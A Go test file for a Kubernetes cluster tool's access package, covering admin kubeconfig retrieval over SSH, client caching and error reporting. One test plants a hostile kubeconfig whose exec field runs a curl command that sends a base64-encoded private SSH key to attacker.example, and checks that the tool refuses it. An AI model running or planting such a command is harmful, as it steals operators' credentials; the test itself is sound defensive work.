package access

import (
	"context"
	"strings"
	"sync"
	"testing"

	"k8s.io/client-go/tools/clientcmd"
	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
	certutil "k8s.io/client-go/util/cert"

	"github.com/slipway-dev/slipway/pkg/apis/slipway/v1beta1"
	"github.com/slipway-dev/slipway/pkg/inventory"
	"github.com/slipway-dev/slipway/pkg/ssh/sshtest"
)

var endpoint = v1beta1.APIEndpoint{Host: "10.0.0.10", Port: 6443, AlternativeNames: []string{"api.example.com"}}

// adminConfig is an admin kubeconfig shaped as kubeadm writes it: one cluster with the
// endpoint and the CA inline, one user with a client certificate and key inline.
func adminConfig(t *testing.T) *clientcmdapi.Config {
	t.Helper()
	k, err := pems()
	if err != nil {
		t.Fatal(err)
	}
	ca, cert, key := k.ca, k.cert, k.key
	c := clientcmdapi.NewConfig()
	c.Clusters["c"] = &clientcmdapi.Cluster{Server: "https://10.0.0.10:6443", CertificateAuthorityData: ca}
	c.AuthInfos["kubernetes-admin"] = &clientcmdapi.AuthInfo{ClientCertificateData: cert, ClientKeyData: key}
	c.Contexts["kubernetes-admin@c"] = &clientcmdapi.Context{Cluster: "c", AuthInfo: "kubernetes-admin"}
	c.CurrentContext = "kubernetes-admin@c"
	return c
}

// pems makes a CA certificate and a client certificate and key once: RSA keys are slow to make.
var pems = sync.OnceValues(func() (k struct{ ca, cert, key []byte }, err error) {
	if k.ca, _, err = certutil.GenerateSelfSignedCertKey("kubernetes", nil, nil); err != nil {
		return k, err
	}
	k.cert, k.key, err = certutil.GenerateSelfSignedCertKey("kubernetes-admin", nil, nil)
	return k, err
})

func write(t *testing.T, c *clientcmdapi.Config) []byte {
	t.Helper()
	data, err := clientcmd.Write(*c)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func nodes() []*inventory.Node {
	return inventory.Nodes(&v1beta1.Cluster{
		ControlPlane: v1beta1.ControlPlane{Hosts: []v1beta1.Host{
			{PublicAddress: "10.0.0.1", PrivateAddress: "192.168.0.1", IsLeader: true}, {PublicAddress: "10.0.0.2", PrivateAddress: "fd00::2"}}},
		StaticWorkers: v1beta1.StaticWorkers{Hosts: []v1beta1.Host{{PublicAddress: "10.0.0.3", PrivateAddress: "192.168.0.3"}}},
	})
}

func TestKubeFromTheFirstControlPlaneWithAKubeconfig(t *testing.T) {
	fleet := &sshtest.Fleet{}
	fleet.Get("10.0.0.2").SetFile(AdminConf, sshtest.File{Data: write(t, adminConfig(t))})
	fleet.Get("10.0.0.3").SetFile(AdminConf, sshtest.File{Data: []byte("a worker's file is never read")})
	a := New(nodes(), fleet, endpoint)
	ctx := context.Background()

	data, h, err := a.AdminKubeconfig(ctx)
	if err != nil || h.Name() != "10.0.0.2" {
		t.Fatalf("got %q from %v, %v; want the second control plane's", data, h, err)
	}
	c1, err := a.Kube(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if c1.Config.Host != "https://10.0.0.10:6443" || c1.Config.Dial == nil {
		t.Errorf("client for %s, tunnelled %t", c1.Config.Host, c1.Config.Dial != nil)
	}
	if c2, _ := a.Kube(ctx); c2 != c1 {
		t.Error("the client was built again")
	}
	a.Forget()
	if c3, _ := a.Kube(ctx); c3 == c1 {
		t.Error("Forget kept the client")
	}
	if got := fleet.Get("10.0.0.3").Commands(); len(got) != 0 {
		t.Errorf("a worker was asked: %q", got)
	}
}

// TestAPlantedKubeconfigStopsTheSearch: the leader's admin.conf runs a command; slipway refuses
// it naming the host and the field, builds no client, and does not fall back to another control
// plane's file as if the leader had none.
func TestAPlantedKubeconfigStopsTheSearch(t *testing.T) {
	hostile := adminConfig(t)
	hostile.AuthInfos["kubernetes-admin"].Exec = &clientcmdapi.ExecConfig{APIVersion: "client.authentication.k8s.io/v1", Command: "sh", Args: []string{"-c", "curl https://attacker.example/$(cat ~/.ssh/id_ed25519 | base64)"}}
	fleet := &sshtest.Fleet{}
	fleet.Get("10.0.0.1").SetFile(AdminConf, sshtest.File{Data: write(t, hostile)})
	fleet.Get("10.0.0.2").SetFile(AdminConf, sshtest.File{Data: write(t, adminConfig(t))})
	a := New(nodes(), fleet, endpoint)
	c, err := a.Kube(context.Background())
	if err == nil || !strings.Contains(err.Error(), `10.0.0.1: refusing /etc/kubernetes/admin.conf: user "kubernetes-admin" has exec (command "sh"), which runs a command on this machine`) {
		t.Fatalf("got client %v, error %v; want the exec refused, naming the host", c, err)
	}
	if got := fleet.Get("10.0.0.2").Commands(); len(got) != 0 {
		t.Errorf("the second control plane was asked: %q", got)
	}
}

func TestNoControlPlaneReady(t *testing.T) {
	fleet := &sshtest.Fleet{}
	a := New(nodes(), fleet, endpoint)
	_, err := a.Kube(context.Background())
	if err == nil || !strings.Contains(err.Error(), "no control-plane host has /etc/kubernetes/admin.conf yet") ||
		!strings.Contains(err.Error(), "downloading /etc/kubernetes/admin.conf from 10.0.0.1") || !strings.Contains(err.Error(), "from 10.0.0.2") {
		t.Fatalf("got %v", err)
	}
	_, err = a.Etcd(context.Background())
	if err == nil || !strings.Contains(err.Error(), "no control-plane host has the etcd client certificates") {
		t.Fatalf("got %v", err)
	}
}
